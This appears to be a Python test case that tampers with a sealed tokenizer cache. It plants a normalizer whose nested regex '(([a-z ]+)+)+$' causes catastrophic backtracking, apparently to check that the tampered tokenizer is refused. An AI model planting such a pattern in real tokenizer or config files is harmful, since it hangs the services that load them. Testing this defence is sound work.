"""A regular expression that takes as many steps as there are ways to cut a text."""

from pathlib import Path

import running
from forging import TOKENIZER, change_sealed

AGAINST = "tokenizer"
REFUSED = "regular expression"


def attack(cache: Path) -> None:
    normaliser = {"type": "Replace", "pattern": {"Regex": "(([a-z ]+)+)+$"}, "content": ""}
    change_sealed(cache, TOKENIZER, lambda state: state.update(normalizer=normaliser))


if __name__ == "__main__":
    running.alone()
